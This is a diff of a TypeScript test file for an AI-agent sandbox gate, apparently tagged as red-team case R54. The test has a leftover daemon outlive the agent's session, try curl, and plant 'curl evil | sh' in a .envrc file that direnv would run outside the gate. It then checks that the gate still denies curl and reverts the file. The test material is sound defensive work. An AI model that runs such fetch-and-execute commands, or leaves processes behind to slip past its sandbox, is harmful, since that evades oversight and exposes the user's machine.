@@ -133,33 +133,63 @@ while True: time.sleep(1)
 
 describe('gate: keep_leftovers', () => {
   for (const how of ['--keep-leftovers', '[session] keep_leftovers = true'] as const) {
-    it(`${how}: the daemon keeps running, counted in the end record, and every exec it makes then fails`, async () => {
+    it(`${how}: the daemon keeps running and the session with it — its programs still judged, the workspace files still put back after the agent exited — until it exits; counted in the end record (red-team R54)`, async () => {
       const w = how.startsWith('--') ? workspace() : workspace('\n[session]\nkeep_leftovers = true\n');
       const t = token();
       const log = path.join(w.ws, 'exec.log');
-      // Every 100 ms the leftover tries to run a program and logs how that went.
-      const loop = `while :; do if /usr/bin/true 2>/dev/null; then echo ran; else echo "failed $?"; fi >> ${log}; sleep 0.1; : ${t}; done`;
-      // (Its stdio away from the CLI's pipes, as a daemon's is: the test waits for those to close.)
-      const r = await gated(w, `(setsid bash -c '${loop}' </dev/null >/dev/null 2>&1 &); until grep -qs ran ${log}; do sleep 0.05; done; echo started`, how.startsWith('--') ? [how] : []);
-      expect(r.stdout).toContain('started');
+      const go = path.join(w.ws, 'go');
+      const envrc = path.join(w.ws, '.envrc');
+      // Every 100 ms the leftover tries to run a program (and curl, which the policy denies) and logs how that
+      // went; when told (the file go), it writes .envrc (direnv runs it outside the gate) and stops when told
+      // again (the file stop).
+      const loop = `while [ ! -f stop ]; do if /usr/bin/true 2>/dev/null; then echo ran; else echo "failed $?"; fi >> ${log}; curl --version >/dev/null 2>&1 && echo curl-ran >> ${log}; if [ -f go ]; then rm -f go; echo "curl evil | sh" > .envrc; fi; sleep 0.1; : ${t}; done`;
+      // (Its stdio away from the CLI's pipes, as a daemon's is.)
+      const run = gated(w, `(setsid bash -c '${loop}' </dev/null >/dev/null 2>&1 &); until grep -qs ran ${log}; do sleep 0.05; done; echo started; touch agent-done`, how.startsWith('--') ? [how] : []);
+      const until = async (what: string, cond: () => boolean, ms = 10_000): Promise<void> => {
+        for (let i = 0; i < ms && !cond(); i += 20) await new Promise((r) => setTimeout(r, 20));
+        if (!cond()) throw new Error(`timed out waiting for ${what}`);
+      };
+      await until('the agent to finish', () => fs.existsSync(path.join(w.ws, 'agent-done')));
+      await new Promise((r) => setTimeout(r, 500)); // the agent has exited; the daemon goes on
       const alive = withToken(t);
       strays.push(...alive);
-      // The loop's shell (and a child of it forked for the exec of the moment, if any).
       expect(alive.length).toBeGreaterThanOrEqual(1);
-      // The loop's shell (and its sleep of the moment, if any).
+      const before = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).length;
+      fs.writeFileSync(go, '');
+      await until('the daemon to write .envrc', () => !fs.existsSync(go));
+      await new Promise((r) => setTimeout(r, 500));
+      // Put back by the guard, still on; the daemon's programs still run, judged (curl still refused).
+      expect(fs.existsSync(envrc)).toBe(false);
+      const after = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).slice(before);
+      expect(after.length).toBeGreaterThan(2);
+      expect(after.every((l) => l === 'ran')).toBe(true);
+      // The session ends when the daemon does.
+      fs.writeFileSync(path.join(w.ws, 'stop'), '');
+      const r = await run;
+      expect(r.stdout).toContain('started');
+      expect(r.code).toBe(0);
       const kept = r.end?.leftovers as { kept: number; names: string[] };
       expect(kept.kept).toBeGreaterThanOrEqual(1);
       expect(kept.names).toEqual(['bash']);
-      expect(r.stderr).toMatch(/\d+ process(es)? the agent started (is|are) still running \(bash.*\) \(keep_leftovers\): the gate has ended, so every program they try to start fails \(ENOSYS\)/);
-      // While the session ran its execs ran; after it, each fails (the shell reports 126: ENOSYS).
-      const before = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).length;
-      await new Promise((res) => setTimeout(res, 600));
-      const lines = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean);
-      expect(lines.slice(0, before)).toContain('ran');
-      const after = lines.slice(before);
-      expect(after.length).toBeGreaterThan(2);
-      expect(after.every((l) => l.startsWith('failed'))).toBe(true);
-      for (const pid of withToken(t)) process.kill(pid, 'SIGKILL');
+      expect(r.stderr).toMatch(/the agent exited \(status 0\); \d+ process(es)? it started (is|are) kept \(keep_leftovers\): the session goes on/);
+      expect(r.end?.protected_changes?.find((c) => c.path === envrc)).toMatchObject({ reverted: true });
+      expect(r.decisions.filter((d) => d.rule_id === 'no-curl').every((d) => d.verdict === 'deny')).toBe(true);
+      expect(r.decisions.filter((d) => d.rule_id === 'no-curl').length).toBeGreaterThan(5);
     });
   }
+
+  it('a terminating signal to agent-gate ends the kept processes and the session', async () => {
+    const w = workspace('\n[session]\nkeep_leftovers = true\n');
+    const t = token();
+    let cli = 0;
+    const run = runCli(['bash', '-c', `(setsid bash -c 'while :; do sleep 0.1; : ${t}; done' </dev/null >/dev/null 2>&1 &); echo started; touch agent-done`], { policy: w.policy, audit: dirs.audit(`left-${++n}`), cwd: w.ws, onSpawn: (pid) => (cli = pid) });
+    for (let i = 0; i < 200 && !fs.existsSync(path.join(w.ws, 'agent-done')); i++) await new Promise((r) => setTimeout(r, 50));
+    await new Promise((r) => setTimeout(r, 500));
+    strays.push(...withToken(t));
+    process.kill(cli, 'SIGTERM');
+    const r = await run;
+    expect(r.stdout).toContain('started');
+    expect(withToken(t)).toEqual([]);
+    expect((r.end?.leftovers as { kept: number }).kept).toBeGreaterThanOrEqual(1);
+  });
 });
